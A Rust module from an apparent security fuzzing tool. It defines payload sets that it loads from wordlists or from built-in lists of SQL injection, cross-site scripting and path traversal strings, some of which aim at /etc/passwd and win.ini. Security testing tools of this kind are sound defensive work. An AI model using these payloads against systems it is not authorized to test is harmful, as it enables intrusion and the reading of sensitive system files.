//! Payload sets for fuzzing campaigns

use anyhow::{Context, Result};
use std::fs::File;
use std::io::{BufRead, BufReader};
use std::path::Path;

/// A named set of payloads
#[derive(Debug, Clone)]
pub struct PayloadSet {
    /// Name of the payload set
    pub name: String,
    /// List of payloads
    pub payloads: Vec<String>,
}

impl PayloadSet {
    /// Create a new payload set from a list
    pub fn new(name: &str, payloads: Vec<String>) -> Self {
        Self {
            name: name.to_string(),
            payloads,
        }
    }

    /// Load payloads from a wordlist file, skipping blank lines and comments
    pub fn from_file(name: &str, path: &Path) -> Result<Self> {
        let file = File::open(path)
            .with_context(|| format!("Failed to open wordlist: {}", path.display()))?;
        let reader = BufReader::new(file);

        let payloads: Vec<String> = reader
            .lines()
            .map_while(|line| line.ok())
            .filter(|line| !line.is_empty() && !line.starts_with('#'))
            .collect();

        Ok(Self::new(name, payloads))
    }

    /// Look up a built-in payload set by name
    pub fn builtin(name: &str) -> Option<Self> {
        match name {
            "sqli" => Some(Self::sqli_payloads()),
            "xss" => Some(Self::xss_payloads()),
            "path-traversal" => Some(Self::path_traversal_payloads()),
            _ => None,
        }
    }

    pub fn sqli_payloads() -> Self {
        Self::new(
            "sqli",
            [
                "' OR '1'='1",
                "' OR '1'='1' --",
                "' OR 1=1--",
                "admin'--",
                "' UNION SELECT NULL--",
                "1' ORDER BY 1--",
                "1 AND 1=1",
                "1' AND '1'='2",
                "' AND SLEEP(5)--",
            ]
            .iter()
            .map(|s| s.to_string())
            .collect(),
        )
    }

    pub fn xss_payloads() -> Self {
        Self::new(
            "xss",
            [
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)>",
                "javascript:alert(1)",
                "\"><script>alert(1)</script>",
                "'-alert(1)-'",
            ]
            .iter()
            .map(|s| s.to_string())
            .collect(),
        )
    }

    pub fn path_traversal_payloads() -> Self {
        Self::new(
            "path-traversal",
            [
                "../../../etc/passwd",
                "..\\..\\..\\windows\\win.ini",
                "....//....//....//etc/passwd",
                "..%2f..%2f..%2fetc/passwd",
                "/etc/passwd",
            ]
            .iter()
            .map(|s| s.to_string())
            .collect(),
        )
    }

    /// Numeric range payload set, inclusive on both ends
    pub fn numbers(start: i64, end: i64) -> Self {
        let payloads: Vec<String> = (start..=end).map(|n| n.to_string()).collect();
        Self::new("numbers", payloads)
    }

    pub fn len(&self) -> usize {
        self.payloads.len()
    }

    pub fn is_empty(&self) -> bool {
        self.payloads.is_empty()
    }
}
